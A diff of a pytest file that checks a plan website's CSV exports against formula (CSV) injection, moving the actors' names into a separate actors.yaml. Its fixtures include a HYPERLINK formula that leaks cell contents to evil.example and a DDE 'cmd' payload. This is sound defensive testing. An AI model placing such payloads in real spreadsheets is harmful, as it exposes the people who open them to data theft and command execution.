@@ -1,8 +1,9 @@
 """The CSV tables never start a cell with what a spreadsheet runs as a formula (OWASP CSV injection).
 
-A plan whose texts and names start with `=`, `+`, `-`, `@`, a tab or a carriage
-return is validated, its CSV tables generated and read back with the `csv`
-module: every such cell starts with `'`, and holds the text exactly otherwise.
+A series whose plan's texts and whose actors' names (actors.yaml) start with
+`=`, `+`, `-`, `@`, a tab or a carriage return is validated, the plan's CSV
+tables generated and read back with the `csv` module: every such cell starts
+with `'`, and holds the text exactly otherwise.
 """
 
 from __future__ import annotations
@@ -12,17 +13,17 @@ import io
 
 import pytest
 
-from plansite.data.loading import parse_data
-from plansite.data.model import build_plan
-from plansite.data.validation import check_data
+from plansite.data.validation import load_series
 from plansite.i18n.strings import load_strings
 from plansite.i18n.view import localize
 from plansite.outputs.exports import CSV_DELIMITERS, actors_csv, initiatives_csv, neutralise_formula
+from support.building import series_with_plan
 from support.minimal_plan import minimal_with, yaml_string
+from support.paths import MINIMAL_DIR, MINIMAL_PLAN_ID
 
 SITE_URL = "https://plan.example.org/"
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")'
-# The Danish texts that start with a formula, by where they are in the fixture.
+# The Danish texts that start with a formula, by where they are in the fixture series.
 FORMULAS = {
     "title": HYPERLINK,
     "summary": "+cmd|' /C calc'!A0",
@@ -34,19 +35,33 @@ FORMULAS = {
 }
 
 
-def formula_plan():
-    text = minimal_with(
+def replaced(text: str, *replacements: tuple[str, str]) -> str:
+    for old, new in replacements:
+        assert text.count(old) == 1, old
+        text = text.replace(old, new)
+    return text
+
+
+def formula_plan(folder):
+    """The minimal series with formulas in its plan's texts and its actors' names (actors.yaml), validated."""
+    plan = minimal_with(
         ('title: {da: "Indsats ét", en: "Initiative one"}', f"title: {{da: {yaml_string(FORMULAS['title'])}, en: x}}"),
         ('summary: {da: "Kort om ét.", en: "Short on one."}', f"summary: {{da: {yaml_string(FORMULAS['summary'])}, en: x}}"),
         ('- {da: "Ofre", en: "Victims"}', f"- {{da: {yaml_string(FORMULAS['target group'])}, en: x}}"),
-        ('name: {da: "Organisationen", en: "The Organisation"}', f"name: {{da: {yaml_string(FORMULAS['lead name'])}, en: x}}"),
-        ('name: {da: "Ministeriet", en: "The Ministry"}', f"name: {{da: {yaml_string(FORMULAS['partner name'])}, en: x}}"),
-        ("short_name: ORG", f"short_name: {yaml_string(FORMULAS['short name'])}"),
         ('title: {da: "Delområde A", en: "Sub-area A"}', f"title: {{da: {yaml_string(FORMULAS['sub-area'])}, en: x}}"),
     )
-    loaded = parse_data(text.encode("utf-8"), "data.yaml")
-    assert check_data(loaded) == []
-    return localize(build_plan(loaded.data), load_strings())["da"]
+    data_dir = series_with_plan(folder, plan)
+    actors = (MINIMAL_DIR / "actors.yaml").read_text(encoding="utf-8")
+    (data_dir / "actors.yaml").write_text(
+        replaced(
+            actors,
+            ('name: {da: "Organisationen", en: "The Organisation"}', f"name: {{da: {yaml_string(FORMULAS['lead name'])}, en: x}}"),
+            ('name: {da: "Ministeriet", en: "The Ministry"}', f"name: {{da: {yaml_string(FORMULAS['partner name'])}, en: x}}"),
+            ("short_name: ORG", f"short_name: {yaml_string(FORMULAS['short name'])}"),
+        ),
+        encoding="utf-8",
+    )
+    return localize(load_series(data_dir), load_strings())["da"].plan(MINIMAL_PLAN_ID)
 
 
 def table(data: bytes) -> list[dict[str, str]]:
@@ -55,8 +70,8 @@ def table(data: bytes) -> list[dict[str, str]]:
 
 
 @pytest.fixture(scope="module")
-def tables():
-    localized = formula_plan()
+def tables(tmp_path_factory):
+    localized = formula_plan(tmp_path_factory.mktemp("data"))
     return {"initiatives": table(initiatives_csv(localized, SITE_URL)), "actors": table(actors_csv(localized, SITE_URL))}
 
 
